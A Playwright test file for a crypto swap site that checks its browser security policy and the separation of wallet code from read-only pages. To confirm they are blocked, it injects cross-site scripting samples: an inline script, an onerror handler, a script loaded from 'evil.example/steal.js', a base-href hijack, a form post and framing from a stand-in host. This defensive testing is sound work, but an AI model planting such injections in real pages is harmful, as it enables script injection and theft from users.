import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { APP_URL, SITE } from '../support/site'
import { expect, test } from './support/test'

/** What a hostile browser extension, proxy or list would want to happen. */
declare global {
  interface Window {
    planted?: string[]
  }
}

test('a script that is planted in the page does not run, nor can code add one, nor a foreign page frame it', async ({
  page,
  swapPage,
  errors,
}) => {
  await page.route(`${APP_URL}/swap`, async (route) => {
    const response = await route.fetch()
    const html = await response.text()
    const planted = [
      "<script>(window.planted ??= []).push('inline')</script>",
      `<img src="x:" onerror="(window.planted ??= []).push('handler')">`,
      '<script src="https://evil.example/steal.js"></script>',
      '<base href="https://evil.example/">',
    ].join('')
    await route.fulfill({ response, body: html.replace('<div id="root">', `${planted}<div id="root">`) })
  })
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: "(window.planted ??= []).push('foreign')" }),
  )
  await swapPage.open()
  await expect(page.getByRole('main').getByRole('button', { name: 'Connect Wallet' })).toBeVisible()
  expect(await page.evaluate(() => window.planted)).toBeUndefined()
  expect(await page.evaluate(() => document.baseURI)).toBe(`${APP_URL}/swap`)
  for (const refused of ['inline script', 'inline event handler', 'evil.example/steal.js', 'base URI'])
    expect(errors.join('\n')).toContain(refused)
  errors.splice(0)

  const refusals = await page.evaluate(async () => {
    const seen: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
    const attempts: readonly (() => void)[] = [
      () => {
        const script = document.createElement('script')
        script.textContent = 'window.planted = ["text"]'
        document.body.append(script)
      },
      () => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/steal.js'
        document.body.append(script)
      },
      () => {
        document.body.innerHTML = '<img src="x:" onerror="window.planted = [1]">'
      },
      () => new Worker('/assets/worker.js'),
      () => window.trustedTypes?.createPolicy('evil', { createScriptURL: (url) => url }),
    ]
    const refused = attempts.filter((attempt) => {
      try {
        attempt()
        return false
      } catch (error) {
        return error instanceof TypeError
      }
    })
    seen.push(`${String(attempts.length - refused.length)} allowed`)
    const form = document.createElement('form')
    form.action = 'https://evil.example/'
    document.body.append(form)
    form.submit()
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
    while (new Set(seen).size < 5) await new Promise((resolve) => setTimeout(resolve, 20))
    return seen
  })
  expect(new Set(refusals)).toEqual(
    new Set(['0 allowed', 'require-trusted-types-for', 'trusted-types', 'form-action', 'frame-src']),
  )
  expect(await page.evaluate(() => window.planted)).toBeUndefined()
  errors.splice(0)

  const headers = (await page.request.get('/swap')).headers()
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
  // For browsers that know the older way only.
  expect(headers['x-frame-options']).toBe('DENY')
  await page.route('https://clickjack.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${APP_URL}/swap"></iframe>` }),
  )
  await page.goto('https://clickjack.example/')
  const frame = page.frames()[1]
  await expect.poll(() => frame?.url()).toBe('chrome-error://chromewebdata/')
  await expect.poll(() => errors.splice(0).join('\n')).toContain('frame-ancestors')
})

const WALLET_CODE = /Web3ReactUpdate|eth_requestAccounts|wc_sessionPropose|eip6963:requestProvider/

/** How the links that leave the site are opened. */
function waysOut(links: readonly (HTMLElement | SVGElement)[], origin: string): readonly string[] {
  return links
    .filter((link) => !(link as HTMLAnchorElement).href.startsWith(origin))
    .map((link) => `${link.getAttribute('target') ?? ''} ${link.getAttribute('rel') ?? ''}`)
}

test('who only reads loads no code of wallets, on any page, and whoever is linked to cannot reach back', async ({
  page,
  swapPage,
}) => {
  const asked = new Set<string>()
  page.on('request', (request) => {
    const { origin, pathname } = new URL(request.url())
    if (origin === APP_URL && pathname.endsWith('.js')) asked.add(pathname)
  })
  const withWallets = () =>
    [...asked].filter((path) => WALLET_CODE.test(readFileSync(join(SITE.outDir, path), 'utf8')))
  const ways: string[] = []
  for (const path of ['/', '/swap', '/add', '/liquidity', '/find', '/farms', '/pools', '/nowhere']) {
    // With it comes whatever a page loads by itself after its first picture.
    const last = page.waitForResponse(/\/deferred-/)
    await page.goto(path)
    await last
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
    await expect(page.getByRole('main')).not.toBeEmpty()
    await expect(page.getByRole('contentinfo')).toBeVisible()
    ways.push(...(await page.locator('a[href^="http"]').evaluateAll(waysOut, APP_URL)))
  }
  expect(ways.length).toBeGreaterThan(0)
  expect(new Set(ways)).toEqual(new Set(['_blank noopener noreferrer']))
  expect(asked.size).toBeGreaterThan(0)
  expect(withWallets()).toEqual([])
  // The same look finds it where it is.
  await swapPage.openConnected()
  expect(withWallets()).not.toEqual([])
})
